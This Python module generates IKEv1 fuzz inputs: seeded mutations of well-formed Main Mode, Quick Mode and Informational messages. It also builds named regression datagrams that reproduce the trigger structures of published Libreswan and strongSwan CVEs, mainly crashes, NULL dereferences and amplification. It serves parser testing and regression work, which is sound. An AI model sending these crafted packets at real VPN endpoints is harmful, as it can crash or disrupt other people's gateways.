"""IKEv1 fuzz inputs at the codec level: seeded mutations and named regression cases.

``v1_samples`` builds well-formed IKEv1 messages with the wire codec (Main Mode 1 and 3, an
encrypted Main Mode 5, Quick Mode, an Informational with N and D); ``v1_mutations`` mutates
them (bit flips, truncations, extensions, length-field lies, payload-type swaps), usually
fixing the header length afterwards so the damage reaches the payload chain.

``v1_regression_cases`` gives the trigger structure of published IKEv1 parser and state
bugs (Libreswan ``security/`` advisories, strongSwan NEWS). Nothing here knows keys or the
target's state, so:

- a case that needs an authenticated peer (Quick Mode, encrypted Informational) carries the
  structure twice: as a cleartext datagram, and as an E-flagged datagram whose "ciphertext"
  is the plaintext chain zero-padded to 16 bytes (so ``decode_chain(first, body,
  padding=True)`` sees the structure); a harness with an SA's keys re-seals the chain;
- a datagram that must reuse the responder cookie the target chose carries ``ECHO_RCOOKIE``
  in bytes 8..16 for the harness to replace.

Only the wire codec is used: these generators stay independent of the core.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Sequence

from ..wire.isakmp import FLAG_ENCRYPTED, HEADER_SIZE, encode_chain, encode_isakmp
from ..wire.isakmp_enums import (
    KEY_IKE,
    VID_DPD,
    VID_NATT,
    AuthAlgV1,
    AuthMethodV1,
    EncapMode,
    EncrV1,
    EspIdV1,
    ExchangeV1,
    HashV1,
    IdV1,
    LifeType,
    NotifyV1,
    PayloadV1,
    Phase1Attr,
    Phase2Attr,
    ProtocolV1,
)
from ..wire.isakmp_payloads import (
    DeleteV1,
    FragmentV1,
    HashV1Payload,
    IdV1Payload,
    KeV1,
    NatDV1,
    NonceV1,
    NotifyV1Payload,
    Payload,
    UnknownV1,
    VendorIdV1,
)
from ..wire.isakmp_sa import AttributeV1, ProposalV1, SaV1, TransformV1

ICOOKIE = bytes.fromhex("1122334455667788")
RCOOKIE = bytes.fromhex("99aabbccddeeff00")
ECHO_RCOOKIE = bytes.fromhex("ec40ec40ec40ec40")
"""Stands for the responder cookie the target sent; a harness substitutes it."""
ZERO = bytes(8)
QM_ID = 0x1A2B3C4D
BLOCK = 16
VID_FRAG = bytes.fromhex("4048b7d56ebce88525e7de7f00d6c2d3")
DATA_TYPES = (1, 4, 5, 8, 10, 11, 12, 13, 20, 130, 132, 14, 15, 2, 3, 0, 255)
"""Next-payload values a swap picks from: known, draft, substructure, SAK (15), NONE, junk."""


def _phase1_sa(
    encr: int = EncrV1.AES_CBC, hash_id: int = HashV1.SHA2_256, group: int = 14, situation=1
) -> SaV1:
    attrs = (
        AttributeV1(Phase1Attr.ENCRYPTION, encr),
        AttributeV1(Phase1Attr.KEY_LENGTH, 256),
        AttributeV1(Phase1Attr.HASH, hash_id),
        AttributeV1(Phase1Attr.AUTH_METHOD, AuthMethodV1.PSK),
        AttributeV1(Phase1Attr.GROUP, group),
        AttributeV1(Phase1Attr.LIFE_TYPE, LifeType.SECONDS),
        AttributeV1(Phase1Attr.LIFE_DURATION, 86400),
    )
    transforms = (TransformV1(1, KEY_IKE, attrs), TransformV1(2, KEY_IKE, attrs[:1] + attrs[2:]))
    return SaV1((ProposalV1(1, ProtocolV1.ISAKMP, b"", transforms),), situation=situation)


def _esp_sa(transform_id: int = EspIdV1.AES_CBC, auth: int | None = AuthAlgV1.HMAC_SHA2_256):
    attrs = [
        AttributeV1(Phase2Attr.ENCAP_MODE, EncapMode.TUNNEL),
        AttributeV1(Phase2Attr.KEY_LENGTH, 128),
        AttributeV1(Phase2Attr.LIFE_TYPE, LifeType.SECONDS),
        AttributeV1(Phase2Attr.LIFE_DURATION, 3600),
    ]
    if auth is not None:
        attrs.append(AttributeV1(Phase2Attr.AUTH_ALG, auth))
    transform = TransformV1(1, transform_id, tuple(attrs))
    return SaV1((ProposalV1(1, ProtocolV1.ESP, b"\xc0\x01\x02\x03", (transform,)),))


def _id_addr(address: bytes) -> IdV1Payload:
    return IdV1Payload(IdV1.IPV4_ADDR if len(address) == 4 else IdV1.IPV6_ADDR, 0, 0, address)


def _msg(
    exchange: int, payloads: Sequence[Payload], *, rcookie=RCOOKIE, mid=0, icookie=ICOOKIE
) -> bytes:
    return encode_isakmp(icookie, rcookie, exchange, 0, mid, payloads=payloads)


def _sealed_shape(
    exchange: int, payloads: Sequence[Payload], *, rcookie=RCOOKIE, mid=0, icookie=ICOOKIE
) -> bytes:
    """E flag set; the body is the plaintext chain zero-padded to the block (see above)."""
    first, plain = encode_chain(payloads)
    plain += bytes(-len(plain) % BLOCK)
    return encode_isakmp(icookie, rcookie, exchange, FLAG_ENCRYPTED, mid, encrypted=(first, plain))


def _both(exchange: int, payloads: Sequence[Payload], **kw) -> list[bytes]:
    return [_msg(exchange, payloads, **kw), _sealed_shape(exchange, payloads, **kw)]


def _quick_mode(sa: SaV1, idcr: IdV1Payload) -> list[Payload]:
    idci = IdV1Payload(IdV1.IPV4_ADDR, 0, 0, bytes([198, 51, 100, 1]))
    return [HashV1Payload(bytes(32)), sa, NonceV1(bytes(range(32))), idci, idcr]


def _cookies_spi() -> bytes:
    return ICOOKIE + RCOOKIE


def v1_samples() -> dict[str, bytes]:
    """Well-formed IKEv1 messages (the mutation seeds)."""
    natd = [NatDV1(bytes(range(32))), NatDV1(bytes(range(32, 64)))]
    informational = [
        HashV1Payload(bytes(range(32))),
        NotifyV1Payload(NotifyV1.INITIAL_CONTACT, ProtocolV1.ISAKMP, _cookies_spi()),
        DeleteV1(ProtocolV1.ESP, (b"\xc0\x01\x02\x03", b"\xc0\x01\x02\x04")),
    ]
    rng = random.Random(15)
    mm5_body = bytes(rng.randrange(256) for _ in range(96))
    return {
        "main1": _msg(
            ExchangeV1.MAIN,
            [_phase1_sa(), VendorIdV1(VID_DPD), VendorIdV1(VID_NATT), VendorIdV1(VID_FRAG)],
            rcookie=ZERO,
        ),
        "main3": _msg(ExchangeV1.MAIN, [KeV1(bytes(range(256))), NonceV1(bytes(range(32))), *natd]),
        "main5": encode_isakmp(
            ICOOKIE,
            RCOOKIE,
            ExchangeV1.MAIN,
            FLAG_ENCRYPTED,
            0,
            encrypted=(PayloadV1.ID, mm5_body),
        ),
        "quick1": _msg(
            ExchangeV1.QUICK, _quick_mode(_esp_sa(), _id_addr(bytes([203, 0, 113, 7]))), mid=QM_ID
        ),
        "quick1_sealed": _sealed_shape(
            ExchangeV1.QUICK, _quick_mode(_esp_sa(), _id_addr(bytes([203, 0, 113, 7]))), mid=QM_ID
        ),
        "informational": _msg(ExchangeV1.INFORMATIONAL, informational, mid=0x5EED),
    }


def _payload_offsets(data: bytes) -> list[int]:
    """Offsets of the generic headers of a well-formed cleartext message."""
    offsets, at, kind = [], HEADER_SIZE, data[16]
    if data[19] & FLAG_ENCRYPTED:
        return offsets
    while kind and at + 4 <= len(data):
        offsets.append(at)
        kind = data[at]
        at += int.from_bytes(data[at + 2 : at + 4], "big")
    return offsets


def _mutate(rng: random.Random, seed: bytes) -> bytes:
    data = bytearray(seed)
    offsets = _payload_offsets(seed)
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        op = rng.randrange(7)
        if not data:
            data.append(rng.randrange(256))
        if op == 0:  # bit flips
            for _ in range(rng.randint(1, 8)):
                i = rng.randrange(len(data))
                data[i] ^= 1 << rng.randrange(8)
        elif op == 1:  # truncation
            del data[rng.randrange(len(data)) :]
        elif op == 2:  # extension
            data += bytes(rng.randrange(256) for _ in range(rng.randint(1, 40)))
        elif op == 3 and offsets:  # a payload length lies
            at = rng.choice(offsets) + 2
            if at + 2 <= len(data):
                lie = rng.choice((0, 1, 3, 4, 5, 0xFFFF, rng.randrange(0x10000)))
                data[at : at + 2] = lie.to_bytes(2, "big")
        elif op == 4:  # a payload-type swap, in the header or a generic header
            at = rng.choice([16, *(o for o in offsets)])
            if at < len(data):
                data[at] = rng.choice(DATA_TYPES)
        elif op == 5 and len(data) >= HEADER_SIZE:  # a header field lies
            field = rng.choice((17, 18, 19))
            data[field] = rng.randrange(256)
        elif op == 6 and offsets:  # a substructure length (proposal/transform) lies
            at = rng.choice(offsets) + rng.choice((14, 22, 10))
            if at + 2 <= len(data):
                data[at : at + 2] = rng.randrange(0x200).to_bytes(2, "big")
    if len(data) >= HEADER_SIZE and rng.random() < 0.8:
        data[24:28] = len(data).to_bytes(4, "big")
    return bytes(data)


def v1_mutations(seed: int, count: int) -> Iterator[bytes]:
    """``count`` mutated IKEv1 datagrams, the same for the same ``seed``."""
    rng = random.Random(seed)
    seeds = list(v1_samples().values())
    for _ in range(count):
        yield _mutate(rng, rng.choice(seeds))


def v1_regression_cases() -> list[tuple[str, list[bytes]]]:
    """Named trigger structures of published IKEv1 bugs; see each builder's docstring."""
    return [(fn.__name__.removeprefix("_case_"), fn()) for fn in _CASES]


def _case_libreswan_cve_2023_38711() -> list[bytes]:
    """Quick Mode whose IDcr is ID_FQDN where an address was configured (NULL deref)."""
    idcr = IdV1Payload(IdV1.FQDN, 0, 0, b"attacker.example")
    return _both(ExchangeV1.QUICK, _quick_mode(_esp_sa(), idcr), mid=QM_ID)


def _case_libreswan_cve_2023_38712() -> list[bytes]:
    """Informational deleting the ISAKMP SA, then a duplicate Delete and a Notify on it."""
    delete = DeleteV1(ProtocolV1.ISAKMP, (_cookies_spi(),))
    dpd = NotifyV1Payload(NotifyV1.R_U_THERE, ProtocolV1.ISAKMP, _cookies_spi(), b"\0\0\0\1")
    payloads = [HashV1Payload(bytes(32)), delete, delete, dpd]
    return _both(ExchangeV1.INFORMATIONAL, payloads, mid=0x0DE1E7E)


def _case_libreswan_cve_2023_30570() -> list[bytes]:
    """Aggressive Mode with only unacceptable algorithms, then packets reusing the
    responder cookie of the refusal (ECHO_RCOOKIE)."""
    sa = _phase1_sa(encr=EncrV1.DES, hash_id=HashV1.MD5, group=1)
    am1 = [sa, KeV1(bytes(96)), NonceV1(bytes(16)), _id_addr(bytes([192, 0, 2, 66]))]
    return [
        _msg(ExchangeV1.AGGRESSIVE, am1, rcookie=ZERO),
        _msg(ExchangeV1.AGGRESSIVE, am1, rcookie=ECHO_RCOOKIE),
        _msg(ExchangeV1.AGGRESSIVE, [HashV1Payload(bytes(20))], rcookie=ECHO_RCOOKIE),
    ]


def _case_libreswan_cve_2022_23094() -> list[bytes]:
    """Main/Aggressive Mode first messages malformed enough to be refused before any state
    exists (bad proposal length, missing SA, nonzero responder cookie, unknown payload)."""
    good = _msg(ExchangeV1.MAIN, [_phase1_sa()], rcookie=ZERO)
    bad_len = bytearray(good)
    bad_len[HEADER_SIZE + 12 + 2 : HEADER_SIZE + 12 + 4] = (0xFFF0).to_bytes(2, "big")
    return [
        bytes(bad_len),
        _msg(ExchangeV1.MAIN, [VendorIdV1(VID_DPD)], rcookie=ZERO),
        _msg(ExchangeV1.MAIN, [_phase1_sa()], rcookie=RCOOKIE),
        _msg(ExchangeV1.AGGRESSIVE, [_phase1_sa(), UnknownV1(99, b"\xde\xad")], rcookie=ZERO),
    ]


def _case_libreswan_cve_2020_1763() -> list[bytes]:
    """Encrypted Informational for cookies no state has (dropped and logged: NULL deref)."""
    stranger = bytes.fromhex("0badc0de0badc0de")
    body = bytes(range(48))
    return [
        encode_isakmp(
            stranger,
            stranger,
            ExchangeV1.INFORMATIONAL,
            FLAG_ENCRYPTED,
            0x77,
            encrypted=(kind, body),
        )
        for kind in (PayloadV1.HASH, PayloadV1.N, 99)
    ]


def _case_libreswan_cve_2019_10155() -> list[bytes]:
    """Informational whose integrity is not what it claims: a wrong HASH(1), an empty
    HASH, no HASH at all, and a body that is no whole number of blocks."""
    delete = DeleteV1(ProtocolV1.ESP, (b"\xc0\x01\x02\x03",))
    out = []
    for payloads in ([HashV1Payload(b"\xff" * 32), delete], [HashV1Payload(b""), delete], [delete]):
        out += _both(ExchangeV1.INFORMATIONAL, payloads, mid=0x1CF)
    out.append(
        encode_isakmp(
            ICOOKIE,
            RCOOKIE,
            ExchangeV1.INFORMATIONAL,
            FLAG_ENCRYPTED,
            0x1CF,
            encrypted=(PayloadV1.HASH, bytes(21)),
        )
    )
    return out


def _case_libreswan_cve_2016_5361() -> list[bytes]:
    """The same spoofed Main Mode 1 again and again (answering each is an amplifier)."""
    return [v1_samples()["main1"]] * 12


def _case_libreswan_cve_2015_3204() -> list[bytes]:
    """All 32 situation bits set in the SA; and next payload 15 (SAK, once the old Cisco
    NAT-D number) in a Main Mode 3."""
    sak = UnknownV1(15, bytes(range(20)))
    return [
        _msg(ExchangeV1.MAIN, [_phase1_sa(situation=0xFFFFFFFF)], rcookie=ZERO),
        _msg(ExchangeV1.MAIN, [KeV1(bytes(256)), NonceV1(bytes(32)), sak, sak]),
    ]


def _case_libreswan_cve_2024_3652() -> list[bytes]:
    """Quick Mode proposing AES-GMAC (ESP NULL_AUTH_AES_GMAC; AES-CBC with AUTH_ALG
    AES-128-GMAC; AH AES-128-GMAC), whose keymat size is 0 for the default esp=."""
    gmac_auth = 11  # AES-128-GMAC in the AUTH_ALG registry
    ah = SaV1(
        (
            ProposalV1(
                1,
                ProtocolV1.AH,
                b"\xc0\x0a\x0b\x0c",
                (TransformV1(1, 11, (AttributeV1(Phase2Attr.AUTH_ALG, gmac_auth),)),),
            ),
        )
    )
    idcr = _id_addr(bytes([203, 0, 113, 7]))
    out = []
    for sa in (_esp_sa(EspIdV1.NULL_AUTH_AES_GMAC, None), _esp_sa(auth=gmac_auth), ah):
        out += _both(ExchangeV1.QUICK, _quick_mode(sa, idcr), mid=QM_ID)
    return out


def _case_strongswan_cve_2013_6076() -> list[bytes]:
    """IKEv1 fragments with fragment ID 0 (the list of fragments was left uninitialised),
    plus fragment number 0 and a lone last fragment."""
    frags = [
        FragmentV1(0, 1, False, bytes(range(40))),
        FragmentV1(0, 2, True, bytes(range(40, 60))),
        FragmentV1(0, 0, True, b"x"),
        FragmentV1(7, 3, True, b""),
    ]
    return [_msg(ExchangeV1.MAIN, [f]) for f in frags]


def _case_strongswan_cve_2009_0790() -> list[bytes]:
    """Unsolicited R_U_THERE / R_U_THERE_ACK for an ISAKMP SA that does not exist."""
    out = []
    for kind in (NotifyV1.R_U_THERE, NotifyV1.R_U_THERE_ACK):
        note = NotifyV1Payload(kind, ProtocolV1.ISAKMP, _cookies_spi(), b"\x00\x00\x10\x01")
        out += _both(ExchangeV1.INFORMATIONAL, [HashV1Payload(bytes(20)), note], mid=0xD9D)
        out.append(_msg(ExchangeV1.INFORMATIONAL, [note], rcookie=ZERO, mid=0))
    return out


_CASES = (
    _case_libreswan_cve_2023_38711,
    _case_libreswan_cve_2023_38712,
    _case_libreswan_cve_2023_30570,
    _case_libreswan_cve_2022_23094,
    _case_libreswan_cve_2020_1763,
    _case_libreswan_cve_2019_10155,
    _case_libreswan_cve_2016_5361,
    _case_libreswan_cve_2015_3204,
    _case_libreswan_cve_2024_3652,
    _case_strongswan_cve_2013_6076,
    _case_strongswan_cve_2009_0790,
)
